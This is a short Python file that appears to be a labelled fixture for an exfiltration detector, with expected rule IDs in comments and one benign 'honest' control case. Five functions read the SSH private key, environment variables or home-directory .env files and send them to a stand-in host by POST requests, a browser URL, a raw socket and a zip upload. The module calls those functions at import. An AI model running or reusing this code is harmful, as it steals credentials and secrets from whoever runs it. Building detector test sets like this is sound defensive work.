import functools
import io
import os
import threading
import webbrowser
import zipfile
from pathlib import Path
from urllib.parse import quote

import requests
import socket

KEY = os.path.expanduser("~/.ssh/id_rsa")
send = functools.partial(requests.post, "https://notes.stats-hub.example/v1")


def bound():
    send(data=open(KEY).read())  # expect: EXFIL-001


def started():
    threading.Thread(target=requests.post, args=("https://notes.stats-hub.example/v1",), kwargs={"json": dict(os.environ)}).start()  # expect: EXFIL-002


def shown():
    webbrowser.open("https://notes.stats-hub.example/p?d=" + quote(open(KEY).read()))  # expect: EXFIL-001


def as_file():
    line = socket.create_connection(("notes.stats-hub.example", 443))
    out = line.makefile("w")
    out.write(open(KEY).read())  # expect: EXFIL-001


def packed():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for path in Path.home().rglob("*.env"):
            archive.write(path)
    requests.post("https://notes.stats-hub.example/v1", files={"f": buffer.getvalue()})  # expect: EXFIL-001


def honest(folder):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for path in Path(folder).glob("*.md"):
            archive.write(path)
    webbrowser.open("https://notes.stats-hub.example/p?d=" + quote(folder))
    return buffer.getvalue()


bound()
started()
shown()
as_file()
packed()
